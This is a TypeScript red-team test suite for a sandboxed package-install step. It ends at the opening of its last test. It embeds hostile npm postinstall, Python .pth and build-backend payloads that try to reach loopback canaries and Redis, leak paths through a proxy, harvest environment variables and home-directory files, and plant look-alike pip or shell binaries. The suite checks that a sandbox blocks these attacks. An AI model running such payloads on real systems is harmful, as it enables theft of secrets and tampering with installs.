/**
 * The red-team suite of the install step (docs/sandbox.md, "The install step's threat model"):
 * generated code that gets to run while dependencies install — an npm package's postinstall (the
 * policy allowing scripts), a wheel's `.pth` file (run by every Python start, `pip freeze` of the
 * install included, whatever the policy says) — and manifests that name another source. Each runs
 * through the real install entry point against a real verdaccio and a real wheel index, under
 * bubblewrap and under the fallback modes (npm: Node's permission model; Python: --allow-unsandboxed;
 * both with `unshare --net`), and each test asserts on the host afterwards: a listener on the host's
 * loopback (IPv4 and IPv6) that received nothing, a Redis key absent, a marker file absent, no secret
 * and no host path in what the code could see.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import net from 'node:net';
import path from 'node:path';
import { installReport } from '../../src/capabilities/project/index.ts';
import { checkInstall, type DependencyRegistries, type InstallRun, runInstall } from '../../src/host/install/index.ts';
import { DEFAULT_SANDBOX_SETTINGS, runSandboxed, type SandboxSettings } from '../../src/host/sandbox/index.ts';
import { type NpmRegistry, startNpmRegistry } from '../helpers/npm-registry.ts';
import { type PythonIndex, startPythonIndex } from '../helpers/python-index.ts';
import { startRedis, type TestRedis } from '../helpers/redis-server.ts';
import { BUBBLEWRAP, NETWORK_NAMESPACE, PYTHON, REDIS, requireSystem } from '../helpers/system-requirements.ts';
import { removeTempDirs, tempDir } from '../helpers/temp-dir.ts';

const USER_TOKEN = `user-npm-token-${process.pid}-never-in-the-sandbox`;
const HOST_SECRET = `host-secret-${process.pid}-never-in-the-sandbox`;

interface Canary {
  ports: { v4: number; v6: number | null };
  received: string[];
  stop(): Promise<void>;
}

/** Listeners on the host's loopback that record every connection and what it sent. */
async function startCanary(): Promise<Canary> {
  const received: string[] = [];
  const servers: net.Server[] = [];
  const listen = (host: string) =>
    new Promise<number | null>((resolve) => {
      const server = net.createServer((socket) => {
        received.push(`connection from ${socket.remoteAddress}`);
        socket.on('data', (chunk) => received.push(chunk.toString('utf8')));
        socket.on('error', () => undefined);
      });
      server.once('error', () => resolve(null));
      server.listen(0, host, () => {
        servers.push(server);
        resolve((server.address() as net.AddressInfo).port);
      });
    });
  const v4 = (await listen('127.0.0.1'))!;
  const v6 = await listen('::1');
  return { ports: { v4, v6 }, received, stop: async () => void (await Promise.all(servers.map((s) => new Promise((r) => s.close(r))))) };
}

/** What the npm postinstall tries, each attempt's result written to the project for the test to read. */
function npmAttack(ports: { canary: number; canary6: number; redis: number; registry: number }, marker: string): string {
  return `
const net = require('net'), http = require('http'), fs = require('fs'), os = require('os'), path = require('path');
const C = ${JSON.stringify({ ...ports, marker })};
const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : null;
const tcp = (host, port, payload) => new Promise((resolve) => {
  const s = net.connect({ host, port });
  const t = setTimeout(() => { s.destroy(); resolve('timeout'); }, 3000);
  s.on('connect', () => { clearTimeout(t); s.end(payload); resolve('connected'); });
  s.on('error', (e) => { clearTimeout(t); resolve('error ' + e.code); });
});
const viaProxy = (method, target, host) => new Promise((resolve) => {
  if (!proxy) return resolve('no proxy');
  const req = http.request({ host: proxy.hostname, port: proxy.port, method, path: target, headers: { host } });
  req.setTimeout(3000, () => { req.destroy(); resolve('timeout'); });
  req.on('connect', (res, socket) => { socket.end('SET sopworks-pwned 1\\r\\n'); resolve('connect ' + res.statusCode); });
  req.on('response', (res) => { res.resume(); resolve('status ' + res.statusCode); });
  req.on('error', (e) => resolve('error ' + e.code));
  req.end();
});
// A CONNECT to the http registry is a plain-HTTP tunnel: a TLS handshake in it (here its first bytes) is cut off.
const tlsInTunnel = (target) => new Promise((resolve) => {
  if (!proxy) return resolve('no proxy');
  const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: target, headers: { host: target } });
  req.setTimeout(3000, () => { req.destroy(); resolve('timeout'); });
  req.on('connect', (res, socket) => {
    let answered = false;
    socket.on('data', () => { answered = true; });
    socket.on('close', () => resolve('connect ' + res.statusCode + (answered ? ', answered' : ', closed')));
    socket.on('error', () => undefined);
    socket.write(Buffer.from([0x16, 0x03, 0x01, 0x00, 0x05, 0x01, 0x00, 0x00, 0x01, 0x00]));
  });
  req.on('error', (e) => resolve('error ' + e.code));
  req.end();
});
(async () => {
  const r = {};
  r.direct = await tcp('127.0.0.1', C.canary, 'direct ' + process.cwd());
  r.direct6 = C.canary6 ? await tcp('::1', C.canary6, 'direct6') : 'no ipv6';
  r.redis = await tcp('127.0.0.1', C.redis, 'SET sopworks-pwned 1\\r\\n');
  r.proxyToCanary = await viaProxy('GET', 'http://127.0.0.1:' + C.canary + '/' + encodeURIComponent(process.cwd()), '127.0.0.1:' + C.canary);
  r.proxyConnectRedis = await viaProxy('CONNECT', '127.0.0.1:' + C.redis, '127.0.0.1:' + C.redis);
  r.proxyHostSmuggled = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/attack-pkg', '127.0.0.1:' + C.canary);
  r.proxyOtherName = await viaProxy('GET', 'http://localhost:' + C.registry + '/attack-pkg', 'localhost:' + C.registry);
  const leak = Buffer.from(process.cwd()).toString('hex');
  r.proxyOtherPath = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/-/whoami', '127.0.0.1:' + C.registry);
  r.proxyQuery = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/attack-pkg?leak=' + leak, '127.0.0.1:' + C.registry);
  r.proxyLongName = await viaProxy('GET', 'http://127.0.0.1:' + C.registry + '/' + leak.repeat(20).slice(0, 300), '127.0.0.1:' + C.registry);
  r.proxyTlsToHttpRegistry = await tlsInTunnel('127.0.0.1:' + C.registry);
  r.proxyWrite = await viaProxy('DELETE', 'http://127.0.0.1:' + C.registry + '/attack-pkg/-rev/1', '127.0.0.1:' + C.registry);
  try { fs.writeFileSync(C.marker, 'pwned'); r.marker = 'written'; } catch (e) { r.marker = 'error ' + e.code; }
  let home = '';
  try { home = fs.readdirSync(os.homedir()).map((f) => f + ':' + fs.readFileSync(path.join(os.homedir(), f), 'utf8')).join('\\n'); } catch {}
  r.seen = JSON.stringify(process.env) + '\\n' + home + '\\n' + process.cwd();
  fs.writeFileSync(path.join(process.env.INIT_CWD || '.', 'attack-results.json'), JSON.stringify(r));
})();
`;
}

/** The same from a wheel's `.pth`, in Python: it runs at `pip freeze`, at the end of the install. */
function pythonAttack(ports: { canary: number; canary6: number; redis: number }, marker: string): string {
  return `
import json, os, socket, sys, urllib.request
C = json.loads(${JSON.stringify(JSON.stringify({ ...ports, marker }))})
def tcp(family, host, port, payload):
    try:
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3); s.connect((host, port)); s.sendall(payload); s.close(); return "connected"
    except Exception as e:
        return "error " + type(e).__name__
def via_proxy_connect(target):
    proxy = os.environ.get("HTTP_PROXY")
    if not proxy: return "no proxy"
    host, port = proxy.split("//")[1].rsplit(":", 1)
    try:
        s = socket.create_connection((host, int(port)), 3); s.sendall(("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (target, target)).encode())
        status = s.recv(64).decode(errors="replace").split("\\r\\n")[0]; s.sendall(b"SET sopworks-pwned 1\\r\\n"); s.close(); return status
    except Exception as e:
        return "error " + type(e).__name__
def via_proxy_get(url):
    try:
        return "status %s" % urllib.request.build_opener(urllib.request.ProxyHandler({"http": os.environ.get("HTTP_PROXY", "")})).open(url, timeout=3).status
    except urllib.error.HTTPError as e:
        return "status %s" % e.code
    except Exception as e:
        return "error " + type(e).__name__
# Run by the venv's interpreter (<project>/.venv/bin/python), wherever its working folder is.
RESULTS = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(sys.executable))), "py-attack-results.json")
if not os.path.exists(RESULTS):
    r = {}
    r["direct"] = tcp(socket.AF_INET, "127.0.0.1", C["canary"], ("direct " + os.getcwd()).encode())
    r["direct6"] = tcp(socket.AF_INET6, "::1", C["canary6"], b"direct6") if C["canary6"] else "no ipv6"
    r["redis"] = tcp(socket.AF_INET, "127.0.0.1", C["redis"], b"SET sopworks-pwned 1\\r\\n")
    r["proxyToCanary"] = via_proxy_get("http://127.0.0.1:%d/%s" % (C["canary"], os.getcwd()))
    r["proxyConnectRedis"] = via_proxy_connect("127.0.0.1:%d" % C["redis"])
    try:
        open(C["marker"], "w").write("pwned"); r["marker"] = "written"
    except Exception as e:
        r["marker"] = "error " + type(e).__name__
    r["seen"] = json.dumps(dict(os.environ)) + "\\n" + os.getcwd()
    open(RESULTS, "w").write(json.dumps(r))
`;
}

/**
 * A source distribution's in-tree build backend: pip runs it to build the wheel (scripts allowed), and
 * it attacks first, then builds a real wheel so that the install goes on.
 */
function buildBackend(name: string, version: string): string {
  return `
import base64, hashlib, os, zipfile
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "attack.py")).read(), {"__name__": "attack"})
    dist = "${name}-${version}.dist-info"
    files = {"${name}.py": b"", dist + "/METADATA": b"Metadata-Version: 2.1\\nName: ${name}\\nVersion: ${version}\\n",
             dist + "/WHEEL": b"Wheel-Version: 1.0\\nGenerator: sopworks-test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
    digest = lambda data: "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    record = "".join(f"{path},{digest(data)},{len(data)}\\n" for path, data in files.items()) + dist + "/RECORD,,\\n"
    wheel = "${name}-${version}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as out:
        for path, data in files.items():
            out.writestr(path, data)
        out.writestr(dist + "/RECORD", record)
    return wheel
`;
}

interface Attacked {
  projectDir: string;
  run: InstallRun;
  results: Record<string, string>;
}

describe('red team: the install step', function () {
  this.timeout(600_000);
  let npm: NpmRegistry;
  let wheels: PythonIndex;
  let redis: TestRedis;
  let canary: Canary;
  let hostDir: string;
  let marker: string;
  let userEnv: NodeJS.ProcessEnv;
  const npmRegistries = (): DependencyRegistries => ({ npm: npm.url, pipIndex: null, pipFindLinks: null });
  const pipRegistries = (): DependencyRegistries => ({ npm: null, pipIndex: null, pipFindLinks: wheels.url });

  before(async function () {
    requireSystem(this, BUBBLEWRAP, PYTHON, REDIS);
    [npm, wheels, redis, canary] = await Promise.all([startNpmRegistry(), startPythonIndex(), startRedis(), startCanary()]);
    hostDir = await tempDir('sopworks-install-attack-');
    marker = path.join(hostDir, 'PWNED');
    // The user's own npm config, with a token for another registry: it must stay on the host.
    await fs.writeFile(path.join(hostDir, 'npmrc'), `//npm.example/:_authToken=${USER_TOKEN}\n`);
    userEnv = { ...process.env, npm_config_userconfig: path.join(hostDir, 'npmrc'), SOPWORKS_TEST_SECRET: HOST_SECRET };
    process.env.SOPWORKS_TEST_SECRET = HOST_SECRET;
    const ports = { canary: canary.ports.v4, canary6: canary.ports.v6 ?? 0, redis: redis.port, registry: Number(new URL(npm.url).port) };
    await npm.publishFiles({
      'package.json': JSON.stringify({ name: 'attack-pkg', version: '1.0.0', scripts: { postinstall: 'node attack.js' } }),
      'attack.js': npmAttack(ports, marker),
    });
    await wheels.addWheelFiles('attackpth', '1.0.0', { 'attackpth.py': pythonAttack(ports, marker), 'attackpth-hook.pth': 'import attackpth\n' });
    await wheels.addSdist('attackbuild', '1.0.0', {
      'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      'backend.py': buildBackend('attackbuild', '1.0.0'),
      'attack.py': pythonAttack(ports, marker),
      'PKG-INFO': 'Metadata-Version: 2.1\nName: attackbuild\nVersion: 1.0.0\n',
    });
    await npm.publishFiles({ 'package.json': JSON.stringify({ name: 'mini-slug', version: '1.0.2', main: 'index.js' }), 'index.js': 'module.exports = 1;\n' });
    await npm.publishFiles({ 'package.json': JSON.stringify({ name: 'tiny-dep', version: '2.0.0', main: 'index.js' }), 'index.js': 'module.exports = 2;\n' });
    const sabotage = `const fs = require('fs'); fs.rmSync('../mini-slug', { recursive: true }); const m = JSON.parse(fs.readFileSync('../tiny-dep/package.json')); m.version = '1.0.0'; fs.writeFileSync('../tiny-dep/package.json', JSON.stringify(m));`;
    await npm.publishFiles({
      'package.json': JSON.stringify({ name: 'sabotage-pkg', version: '1.0.0', scripts: { postinstall: 'node sabotage.js' } }),
      'sabotage.js': sabotage,
    });
    await npm.publishFiles({ 'package.json': JSON.stringify({ name: '@corp/tiny', version: '1.0.0', main: 'index.js' }), 'index.js': 'module.exports = 3;\n' });
    await wheels.addWheel('tinyslug', '1.0.0', 'def slug(text):\n    return "-".join(text.lower().split())\n');
  });

  after(async () => {
    delete process.env.SOPWORKS_TEST_SECRET;
    await Promise.all([npm?.stop(), wheels?.stop(), redis?.stop(), canary?.stop()]);
    await removeTempDirs();
  });

  afterEach(async () => {
    assert.deepEqual(canary.received, [], "the host's loopback listener received nothing");
    assert.equal(await redis.client.get('sopworks-pwned'), null, 'the Redis key is absent');
    await assert.rejects(fs.access(marker), 'no marker file on the host');
  });

  async function attack(files: Record<string, string>, registries: DependencyRegistries, sandbox: SandboxSettings, resultsFile: string): Promise<Attacked> {
    const projectDir = await tempDir();
    for (const [name, content] of Object.entries(files)) await fs.writeFile(path.join(projectDir, name), content);
    const check = await checkInstall({ projectDir, registries, scripts: true, env: userEnv });
    assert.deepEqual(check.refusals, []);
    const run = await runInstall(
      { ...check, plan: check.plan! },
      { projectDir, registries, scripts: true, network: true, sandbox, wallSeconds: 240, env: userEnv },
    );
    assert.equal(run.outcome.exitCode, 0, run.outcome.output);
    const results = JSON.parse(await fs.readFile(path.join(projectDir, resultsFile), 'utf8')) as Record<string, string>;
    // What the code could see holds no secret of the host and not where the project lives on it.
    for (const secret of [USER_TOKEN, HOST_SECRET, hostDir]) assert.ok(!results.seen!.includes(secret), `the install saw ${secret}`);
    if (sandbox.mode !== 'fallback') assert.ok(!results.seen!.includes(projectDir), "the install's environment and cwd do not name the host path");
    return { projectDir, run, results };
  }

  const bubblewrap: SandboxSettings = { ...DEFAULT_SANDBOX_SETTINGS, mode: 'bubblewrap' };
  const fallback: SandboxSettings = { ...DEFAULT_SANDBOX_SETTINGS, mode: 'fallback', allowUnsandboxed: true };

  for (const [label, sandbox, mode] of [
    ['bubblewrap', bubblewrap, 'bubblewrap'],
    ["Node's permission model and unshare --net", fallback, 'node-permissions'],
  ] as const) {
    it(`npm postinstall under ${label}: no host loopback (v4, v6, Redis), the proxy refuses all but the registry, no write outside, no secret`, async function () {
      if (mode !== 'bubblewrap') requireSystem(this, NETWORK_NAMESPACE);
      const { run, results } = await attack(
        { 'package.json': JSON.stringify({ name: 'p', version: '1.0.0', dependencies: { 'attack-pkg': '1.0.0' } }) },
        npmRegistries(),
        sandbox,
        'attack-results.json',
      );
      assert.equal(run.outcome.mode, mode);
      assert.match(results.direct!, /^error (ECONNREFUSED|ENETUNREACH)/);
      assert.match(results.direct6!, /^(error|no ipv6)/);
      assert.match(results.redis!, /^error/);
      assert.equal(results.proxyToCanary, 'status 403');
      assert.equal(results.proxyConnectRedis, 'connect 403');
      assert.equal(results.proxyHostSmuggled, 'status 200', 'a forged Host still reaches only the registry');
      assert.equal(results.proxyOtherName, 'status 403', 'another name for the registry host is not the registry');
      assert.equal(results.proxyTlsToHttpRegistry, 'connect 200, closed', 'an http registry is not reachable as https: TLS in its tunnel is cut off');
      assert.equal(results.proxyWrite, 'status 403', 'nothing but reads reaches the registry (the user token would go with it)');
      assert.equal(results.proxyOtherPath, 'status 403', "only a package's metadata and tarballs");
      assert.equal(results.proxyQuery, 'status 403', 'no query string');
      assert.equal(results.proxyLongName, 'status 403', 'no name over 214 characters');
      assert.match(results.marker!, /^error/);
      const refused = run.outcome.violations.filter((v) => v.kind === 'network').map((v) => v.detail);
      assert.equal(refused.length, 8, refused.join('\n'));
      assert.ok(refused.every((detail) => detail.startsWith('refused by the egress proxy: ')));
    });
  }

  for (const [label, sandbox, mode] of [
    ['bubblewrap', bubblewrap, 'bubblewrap'],
    ['--allow-unsandboxed and unshare --net', fallback, 'unsandboxed'],
  ] as const) {
    it(`an sdist's build backend (scripts allowed) under ${label}: no host loopback, Redis or listener through the proxy`, async function () {
      if (mode !== 'bubblewrap') requireSystem(this, NETWORK_NAMESPACE);
      const { projectDir, run, results } = await attack({ 'requirements.txt': 'attackbuild==1.0.0\n' }, pipRegistries(), sandbox, 'py-attack-results.json');
      assert.equal(await fs.readFile(path.join(projectDir, 'requirements.lock'), 'utf8'), 'attackbuild==1.0.0\n', 'built, installed and locked');
      assert.equal(run.outcome.mode, mode);
      assert.match(results.direct!, /^error/);
      assert.match(results.direct6!, /^(error|no ipv6)/);
      assert.match(results.redis!, /^error/);
      assert.equal(results.proxyToCanary, 'status 403');
      assert.match(results.proxyConnectRedis!, /^HTTP\/1\.1 403/);
      // Writes outside the project are a documented gap of --allow-unsandboxed (docs/sandbox.md).
      if (mode === 'unsandboxed') await fs.rm(marker, { force: true });
      else assert.match(results.marker!, /^error/);
    });
  }

  it("a wheel's .pth never runs while dependencies install, scripts off or on (pip's Python starts isolated, without site)", async () => {
    const projectDir = await tempDir();
    for (const [scripts, requirement] of [
      [false, 'attackpth==1.0.0'],
      [true, 'attackpth>=1.0'],
    ] as const) {
      await fs.writeFile(path.join(projectDir, 'requirements.txt'), `${requirement}\n`);
      const check = await checkInstall({ projectDir, registries: pipRegistries(), scripts, env: userEnv });
      const run = await runInstall(
        { ...check, plan: check.plan! },
        { projectDir, registries: pipRegistries(), scripts, network: true, sandbox: bubblewrap, wallSeconds: 240, env: userEnv },
      );
      assert.equal(run.outcome.exitCode, 0, run.outcome.output);
      assert.deepEqual(run.unmet, []);
      assert.equal(await fs.readFile(path.join(projectDir, 'requirements.lock'), 'utf8'), 'attackpth==1.0.0\n', 'installed and locked');
      const [lib] = await fs.readdir(path.join(projectDir, '.venv', 'lib'));
      await fs.access(path.join(projectDir, '.venv', 'lib', lib!, 'site-packages', 'attackpth-hook.pth'));
      await assert.rejects(fs.access(path.join(projectDir, 'py-attack-results.json')), `the .pth did not run (scripts ${scripts ? 'on' : 'off'})`);
    }
  });

  describe("project files never choose the installer's code (issue 41)", () => {
    /** Python that, wherever it runs, leaves a marker in its working folder and on the host. */
    const pythonPlant = (tag: string) =>
      `import os\nfor p in (os.path.join(os.getcwd(), "PWNED-${tag}"), ${JSON.stringify(marker)} + "-${tag}"):\n    try: open(p, "w").write("pwned")\n    except Exception: pass\n`;
    /** A program that does the same from a shell script, and exits 0 as if it had done its job. */
    const shellPlant = (tag: string) => `#!/bin/sh\necho pwned > "$PWD/PWNED-${tag}" 2>/dev/null\necho pwned > "${marker}-${tag}" 2>/dev/null\nexit 0\n`;
    const FAKE_VENV = { '.venv/pyvenv.cfg': 'home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.0\n' };
    const fakePrograms = (dir: string, names: string[]) =>
      Object.fromEntries(names.map((name) => [`${dir}/${name}`, shellPlant(`${dir.replace(/\W/g, '')}-${name}`)]));

    async function write(projectDir: string, files: Record<string, string>): Promise<void> {
      for (const [name, content] of Object.entries(files)) {
        await fs.mkdir(path.dirname(path.join(projectDir, name)), { recursive: true });
        await fs.writeFile(path.join(projectDir, name), content, { mode: /(^|\/)bin\/|^tools\//.test(name) ? 0o755 : 0o644 });
      }
    }

    async function install(projectDir: string, registries: DependencyRegistries, sandbox: SandboxSettings): Promise<InstallRun> {
      const check = await checkInstall({ projectDir, registries, scripts: false, env: userEnv });
      assert.deepEqual(check.refusals, []);
      return runInstall({ ...check, plan: check.plan! }, { projectDir, registries, scripts: false, network: true, sandbox, wallSeconds: 240, env: userEnv });
    }

    /** No marker in the project (left there in any mode, copied back outside bubblewrap) nor next to the host's. */
    async function assertNothingRan(projectDir: string): Promise<void> {
      const left = (await fs.readdir(projectDir, { recursive: true })).filter((name) => /PWNED/.test(String(name)));
      assert.deepEqual(left, [], 'no plant ran in the project');
      const host = (await fs.readdir(hostDir)).filter((name) => name.startsWith('PWNED'));
      assert.deepEqual(host, [], 'no plant ran on the host');
    }

    async function assertNpmInstalled(projectDir: string, run: InstallRun): Promise<void> {
      assert.equal(run.outcome.exitCode, 0, run.outcome.output);
      const installed = JSON.parse(await fs.readFile(path.join(projectDir, 'node_modules', 'mini-slug', 'package.json'), 'utf8'));
      assert.equal(installed.version, '1.0.2', 'the real npm installed the package');
    }

    async function assertPipInstalled(projectDir: string, run: InstallRun): Promise<void> {
      assert.equal(run.outcome.exitCode, 0, run.outcome.output);
      assert.equal(await fs.readFile(path.join(projectDir, 'requirements.lock'), 'utf8'), 'tinyslug==1.0.0\n', 'the real pip installed and locked it');
      const site = await fs.readdir(path.join(projectDir, '.venv', 'lib'));
      await fs.access(path.join(projectDir, '.venv', 'lib', site[0]!, 'site-packages', 'tinyslug.py'));
    }

    const NPM_PROJECT = { 'package.json': JSON.stringify({ name: 'p', version: '1.0.0', dependencies: { 'mini-slug': '^1.0.0' } }) };
    const PIP_PROJECT = { 'requirements.txt': 'tinyslug==1.0.0\n' };

    for (const [label, sandbox, needsNamespace] of [
      ['bubblewrap', bubblewrap, false],
      ['the fallback and unshare --net', fallback, true],
    ] as const) {
      it(`a project's pip package and stdlib look-alikes next to the manifest do not run as the installer (${label})`, async function () {
        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
        const projectDir = await tempDir();
        await write(projectDir, {
          ...PIP_PROJECT,
          'pip/__init__.py': pythonPlant('pip-init'),
          'pip/__main__.py': pythonPlant('pip-main'),
          'subprocess.py': pythonPlant('subprocess'),
          'venv.py': pythonPlant('venv'),
          'ensurepip/__init__.py': pythonPlant('ensurepip'),
          'sitecustomize.py': pythonPlant('sitecustomize'),
          'usercustomize.py': pythonPlant('usercustomize'),
        });
        const run = await install(projectDir, pipRegistries(), sandbox);
        await assertNothingRan(projectDir);
        await assertPipInstalled(projectDir, run);
      });

      it(`a committed .venv with its own python3, pip, npm and node is never run by the install (${label})`, async function () {
        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
        const programs = fakePrograms('.venv/bin', ['python3', 'python', 'pip', 'npm', 'node', 'env', 'sh']);
        const npmProject = await tempDir();
        await write(npmProject, { ...NPM_PROJECT, ...FAKE_VENV, ...programs });
        await assertNpmInstalled(npmProject, await install(npmProject, npmRegistries(), sandbox));
        await assertNothingRan(npmProject);
        const pipProject = await tempDir();
        const site = '.venv/lib/python3.11/site-packages';
        await write(pipProject, {
          ...PIP_PROJECT,
          ...FAKE_VENV,
          ...programs,
          [`${site}/pip/__init__.py`]: pythonPlant('venv-pip-init'),
          [`${site}/pip/__main__.py`]: pythonPlant('venv-pip-main'),
          [`${site}/zz-plant.pth`]: `import os; open(os.path.join(os.getcwd(), "PWNED-pth"), "w").write("pwned")\n`,
        });
        await assertPipInstalled(pipProject, await install(pipProject, pipRegistries(), sandbox));
        await assertNothingRan(pipProject);
        await assert.rejects(fs.access(path.join(pipProject, site, 'zz-plant.pth')), 'the venv is one sopworks made, not the committed one');
      });

      it(`a project .npmrc is read as data: its registry, scope, proxy, certificate and token are overridden, its ignore-scripts honoured (${label})`, async function () {
        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
        const listener = `http://127.0.0.1:${canary.ports.v4}`;
        const projectDir = await tempDir();
        const npmrc = [
          'ignore-scripts=true',
          `registry=${listener}/`,
          `@corp:registry=${listener}/corp/`,
          `//127.0.0.1:${canary.ports.v4}/:_authToken=PROJECT-TOKEN`,
          `https-proxy=${listener}`,
          `proxy=${listener}`,
          'noproxy=*',
          `cafile=${path.join(hostDir, 'npmrc')}`,
          '',
        ].join('\n');
        const manifest = { name: 'p', version: '1.0.0', dependencies: { 'mini-slug': '^1.0.0', '@corp/tiny': '^1.0.0', 'attack-pkg': '1.0.0' } };
        await write(projectDir, { 'package.json': JSON.stringify(manifest), '.npmrc': npmrc });
        // The policy lets scripts run; the repository's own ignore-scripts=true keeps attack-pkg's postinstall off.
        const check = await checkInstall({ projectDir, registries: npmRegistries(), scripts: true, env: userEnv });
        assert.deepEqual(check.refusals, [], 'a repository is never refused for having a .npmrc');
        const notes = check.notes.join('\n');
        for (const line of [1, 2, 3, 4, 5, 6, 7, 8]) assert.match(notes, new RegExp(`^\\.npmrc:${line}: `, 'm'));
        assert.match(notes, /^\.npmrc:1: ignore-scripts=true — honoured$/m);
        assert.match(notes, /^\.npmrc:2: registry=.* — overridden: packages come only from the configured registry/m);
        assert.match(notes, /^\.npmrc:4: \/\/127\.0\.0\.1:\d+\/:_authToken=… — overridden: not sent/m);
        assert.ok(!notes.includes('PROJECT-TOKEN'), 'the token is not quoted');
        const run = await runInstall(
          { ...check, plan: check.plan! },
          { projectDir, registries: npmRegistries(), scripts: true, network: true, sandbox, wallSeconds: 240, env: userEnv },
        );
        await assertNpmInstalled(projectDir, run);
        assert.deepEqual(run.unmet, []);
        const tiny = JSON.parse(await fs.readFile(path.join(projectDir, 'node_modules', '@corp', 'tiny', 'package.json'), 'utf8'));
        assert.equal(tiny.version, '1.0.0', 'the scoped package came from the configured registry');
        await assert.rejects(fs.access(path.join(projectDir, 'attack-results.json')), "the repository's ignore-scripts=true was honoured");
        assert.deepEqual(
          run.egress.filter((entry) => !entry.allowed),
          [],
          'nothing asked of the listener',
        );
      });

      it(`a .venv changed by an earlier test round is not trusted by the next install (${label})`, async function () {
        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
        const projectDir = await tempDir();
        await write(projectDir, PIP_PROJECT);
        await assertPipInstalled(projectDir, await install(projectDir, pipRegistries(), sandbox));
        // A test round of the project (any sandboxed command) rewrites the venv the install made.
        const site = (await fs.readdir(path.join(projectDir, '.venv', 'lib')))[0];
        const plant = [
          `for name in python3 python pip npm node; do rm -f .venv/bin/$name; printf '%s' "$PLANT" > .venv/bin/$name; chmod +x .venv/bin/$name; done`,
          `mkdir -p .venv/lib/${site}/site-packages/pip`,
          `printf '%s' "$PY" > .venv/lib/${site}/site-packages/pip/__main__.py`,
          `cp .venv/lib/${site}/site-packages/pip/__main__.py .venv/lib/${site}/site-packages/pip/__init__.py`,
          `echo 'import os; open(os.path.join(os.getcwd(), "PWNED-pth"), "w").write("pwned")' > .venv/lib/${site}/site-packages/zz-plant.pth`,
        ].join('\n');
        const round = await runSandboxed({
          argv: ['/bin/sh', '-c', `PLANT='${shellPlant('round').replace(/'/g, `'\\''`)}'; PY='${pythonPlant('round-pip').replace(/'/g, `'\\''`)}'\n${plant}`],
          projectDir,
          limits: { ...DEFAULT_SANDBOX_SETTINGS.limits, wallSeconds: 30 },
          setting: sandbox.mode,
          allowUnsandboxed: true,
        });
        assert.equal(round.exitCode, 0, round.output);
        await fs.writeFile(path.join(projectDir, 'requirements.txt'), 'tinyslug>=1.0\n');
        await assertPipInstalled(projectDir, await install(projectDir, pipRegistries(), sandbox));
        await assertNothingRan(projectDir);
      });

      it(`a postinstall that removes or rewrites declared dependencies: the install fails naming each, never "installed" (${label})`, async function () {
        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
        const projectDir = await tempDir();
        await write(projectDir, {
          'package.json': JSON.stringify({
            name: 'p',
            version: '1.0.0',
            dependencies: { 'mini-slug': '^1.0.0', 'tiny-dep': '^2.0.0', 'sabotage-pkg': '1.0.0' },
          }),
        });
        const check = await checkInstall({ projectDir, registries: npmRegistries(), scripts: true, env: userEnv });
        const run = await runInstall(
          { ...check, plan: check.plan! },
          { projectDir, registries: npmRegistries(), scripts: true, network: true, sandbox, wallSeconds: 240, env: userEnv },
        );
        assert.equal(run.outcome.exitCode, 0, 'npm itself succeeded');
        assert.deepEqual(
          run.unmet.map((u) => u.name),
          ['mini-slug', 'tiny-dep'],
        );
        const report = installReport({
          round: 1,
          plan: check.plan,
          outcome: run.outcome,
          refusals: [],
          notes: [],
          lockfile: null,
          scriptsSkipped: [],
          skipped: null,
          unmet: run.unmet,
        });
        assert.equal(report.passed, false);
        assert.deepEqual(
          report.failures.map((f) => `${f.name}: ${f.message}`),
          [
            'install: mini-slug: mini-slug@^1.0.0 (package.json) is not installed',
            'install: tiny-dep: tiny-dep@^2.0.0 (package.json) is installed at 1.0.0, which does not satisfy it',
          ],
        );
        assert.ok(!run.outcome.output.includes('sopworks-install-check'), "the check's own line is not in the output");
      });

      it(`a folder of the project on sopworks' own PATH does not lend the install its npm or python3 (${label})`, async function () {
        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
        const saved = process.env.PATH;
        try {
          for (const [files, registries, check] of [
            [NPM_PROJECT, npmRegistries(), assertNpmInstalled],
            [PIP_PROJECT, pipRegistries(), assertPipInstalled],
          ] as const) {
            const projectDir = await tempDir();
            await write(projectDir, { ...files, ...fakePrograms('tools', ['npm', 'node', 'python3', 'python', 'pip']) });
            process.env.PATH = `${path.join(projectDir, 'tools')}:${saved}`;
            userEnv.PATH = process.env.PATH;
            await check(projectDir, await install(projectDir, registries, sandbox));
            await assertNothingRan(projectDir);
          }
        } finally {
          process.env.PATH = saved;
          userEnv.PATH = saved;
        }
      });
    }
  });

  describe('manifests that name another source are refused before anything runs', () => {
    const refused = async (files: Record<string, string>, registries: DependencyRegistries, where: RegExp) => {
      const projectDir = await tempDir();
      for (const [name, content] of Object.entries(files)) {
        await fs.mkdir(path.dirname(path.join(projectDir, name)), { recursive: true });
        await fs.writeFile(path.join(projectDir, name), content);
      }
      const check = await checkInstall({ projectDir, registries, scripts: false, env: userEnv });
      assert.ok(check.refusals.length > 0, 'refused');
      assert.match(check.refusals.map((r) => `${r.file}:${r.line} ${r.found}`).join('\n'), where);
      return projectDir;
    };
    const canaryUrl = () => `http://127.0.0.1:${canary.ports.v4}`;

    it("a local folder with its own in-tree build backend (the issue's attack): refused, its backend never runs", async () => {
